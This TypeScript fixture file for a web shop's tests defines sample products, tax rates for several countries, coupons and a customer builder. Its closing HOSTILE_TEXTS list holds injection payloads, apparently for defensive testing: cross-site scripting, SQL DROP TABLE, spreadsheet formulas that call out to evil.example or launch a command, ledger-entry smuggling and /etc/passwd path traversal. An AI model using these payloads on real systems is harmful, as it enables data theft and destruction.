/** What the shop sells, to whom, and what each place taxes. */
import type { Coupon } from './shop-discount';
import type { TaxRate } from './shop-tax';

export type TaxClass = '' | 'reduced-rate' | 'zero-rate';

export interface Product {
  readonly id: number;
  readonly sku: string;
  readonly name: string;
  /** As entered in the shop: with or without tax, as the order says. */
  readonly price: string;
  readonly taxClass: TaxClass;
  readonly virtual?: boolean;
  /** What a piece costs the shop, where it keeps that. */
  readonly cost?: string;
  /** The shop counts how many it has. */
  readonly counted?: boolean;
}

export const PRODUCTS = {
  shirt: { id: 16, sku: 'SHIRT', name: 'T-Shirt', price: '19.99', taxClass: '' },
  book: { id: 17, sku: 'BOOK', name: 'Book', price: '12.34', taxClass: 'reduced-rate' },
  lamp: { id: 18, sku: 'LAMP', name: 'Desk lamp', price: '48.00', taxClass: '', cost: '21.5', counted: true },
  mug: { id: 19, sku: 'MUG', name: 'Mug', price: '9.99', taxClass: '' },
  chair: { id: 20, sku: 'CHAIR-OAK', name: 'Chair, oak', price: '100.00', taxClass: '' },
  course: { id: 21, sku: 'COURSE', name: 'Online course', price: '30.00', taxClass: '', virtual: true },
  sticker: { id: 22, sku: 'STICKER', name: 'Sticker', price: '0.99', taxClass: '' },
  screw: { id: 23, sku: 'SCREW', name: 'Screw, loose', price: '1.005', taxClass: '' },
  teapot: { id: 24, sku: 'TEAPOT', name: 'Iron teapot', price: '4980', taxClass: '' },
  oud: { id: 25, sku: 'OUD', name: 'Oud oil', price: '12.345', taxClass: '' },
} as const satisfies Record<string, Product>;

const rate = (
  id: number,
  code: string,
  label: string,
  percent: number,
  more: Partial<TaxRate> = {},
): TaxRate => ({
  id,
  code,
  label,
  percent,
  compound: false,
  onShipping: true,
  ...more,
});

const GERMAN = rate(1, 'DE-MWST-1', 'MwSt', 19);
const GERMAN_REDUCED = rate(2, 'DE-MWST RED-1', 'MwSt red', 7);
const STATE = rate(3, 'US-NY-NY STATE-1', 'NY State', 4, { onShipping: false });
const CITY = rate(4, 'US-NY-NYC-2', 'NYC', 4.875, { onShipping: false });
const GST = rate(5, 'CA-QC-GST-1', 'GST', 5);
const QST = rate(6, 'CA-QC-QST-2', 'QST', 9.975, { compound: true });
const BRITISH = rate(7, 'GB-VAT-1', 'VAT', 20);
const JAPANESE = rate(8, 'JP-CONSUMPTION TAX-1', 'Consumption tax', 10);
const KUWAITI = rate(9, 'KW-VAT-1', 'VAT', 5);
/** A person typed this one: a colon and a run of spaces that no account name may carry as they are. */
const FRENCH = rate(10, 'FR-TVA: 20  %-1', 'TVA: 20  %', 20);
const FRENCH_REDUCED = rate(11, 'FR-TVA REDUITE-1', 'TVA réduite', 5.5);
const REVERSE_CHARGE = rate(12, 'AT-REVERSE CHARGE-1', 'Reverse charge', 0);

type PlaceRates = { readonly [K in '' | 'reduced-rate']: readonly TaxRate[] };

const PLACES = {
  DE: { '': [GERMAN], 'reduced-rate': [GERMAN_REDUCED] },
  'US-NY': { '': [STATE, CITY], 'reduced-rate': [] },
  'CA-QC': { '': [GST, QST], 'reduced-rate': [GST] },
  GB: { '': [BRITISH], 'reduced-rate': [] },
  JP: { '': [JAPANESE], 'reduced-rate': [] },
  KW: { '': [KUWAITI], 'reduced-rate': [] },
  FR: { '': [FRENCH], 'reduced-rate': [FRENCH_REDUCED] },
  /** A company in another country of the union: a tax line stands in the order, at nothing. */
  'AT-B2B': { '': [REVERSE_CHARGE], 'reduced-rate': [REVERSE_CHARGE] },
  /** Export: no tax line at all. */
  CH: { '': [], 'reduced-rate': [] },
} as const satisfies Record<string, PlaceRates>;

export type Place = keyof typeof PLACES;

export const ratesFor = (place: Place, taxClass: TaxClass): readonly TaxRate[] =>
  taxClass === 'zero-rate' ? [] : PLACES[place][taxClass];

export const COUPONS = {
  ten: { id: 101, code: 'ten', type: 'percent', nominal: '10' },
  fix5: { id: 102, code: 'fix5', type: 'fixed_cart', nominal: '5' },
  each2: { id: 103, code: 'each2', type: 'fixed_product', nominal: '2' },
  friends: { id: 104, code: 'friends & family', type: 'percent', nominal: '100', freeShipping: true },
  third: { id: 105, code: 'third', type: 'percent', nominal: '33' },
} as const satisfies Record<string, Coupon>;

export interface Customer {
  readonly id: number;
  readonly firstName: string;
  readonly lastName: string;
  readonly company: string;
  readonly country: string;
  readonly state: string;
  readonly postcode: string;
  readonly email: string;
}

export const customer = (place: Place, more: Partial<Customer> = {}): Customer => {
  const [country, region] = place.split('-') as [string, string | undefined];
  return {
    id: 0,
    firstName: 'Ann',
    lastName: 'Ex',
    company: '',
    country,
    state: region === undefined || region === 'B2B' ? '' : region,
    postcode: '10115',
    email: 'buyer@example.test',
    ...more,
  };
};

/** Texts that hurt whoever trusts them: pages, spreadsheets, SQL, plain-text ledgers, consoles. */
export const HOSTILE_TEXTS = [
  '<script>alert("x")</script><img src=x onerror=alert(1)>',
  "Robert'); DROP TABLE orders;--",
  '=1+1',
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  '+CMD|"/C calc"!A0',
  '@SUM(1+1)*cmd',
  '-2+3',
  'semi;colon | pipe  two spaces\ttab "quote" \\back\\slash',
  'line\nbreak\r\n  2026-01-01 * fake entry\n    assets:cash  1000 EUR',
  '{{ $json.secret }} ${process.env.HOME} %s %d',
  '👩‍👩‍👧‍👦 Ünïcödé ＆ ﷽ ‮kcab‬ \u200bzero',
  '../../etc/passwd\u0000nul',
] as const;
